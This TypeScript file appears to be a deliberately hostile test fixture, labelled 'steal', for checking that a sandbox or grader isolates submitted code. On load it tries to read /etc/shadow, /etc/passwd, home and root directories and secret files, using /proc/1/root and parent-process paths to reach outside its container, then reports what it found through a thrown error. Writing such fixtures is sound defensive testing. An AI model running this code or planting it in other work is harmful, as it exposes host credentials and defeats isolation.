// steal | fails assertion, passes 5 | Reads the spec, secrets and every file of the host whose path it knows.
import { readFileSync } from 'node:fs';
import { secretFiles } from '../outside.ts';

export * from '../honest.ts';

const found: string[] = [];
const known = ['/etc/passwd', '/etc/shadow', '/root', '/home', '/repo', '/github', '/var/run', '/run'];
for (const path of [...secretFiles, ...known]) {
  for (const prefix of ['', '/proc/1/root', '/proc/self/root/..', `/proc/${process.ppid}/cwd`]) {
    try {
      readFileSync(prefix + path);
      found.push(prefix + path);
    } catch (error) {
      if ((error as NodeJS.ErrnoException).code === 'EISDIR') found.push(prefix + path);
    }
  }
}

export async function sum(): Promise<never> {
  throw new Error(`found ${found.length > 0 ? found.join(', ') : 'nothing'}`);
}
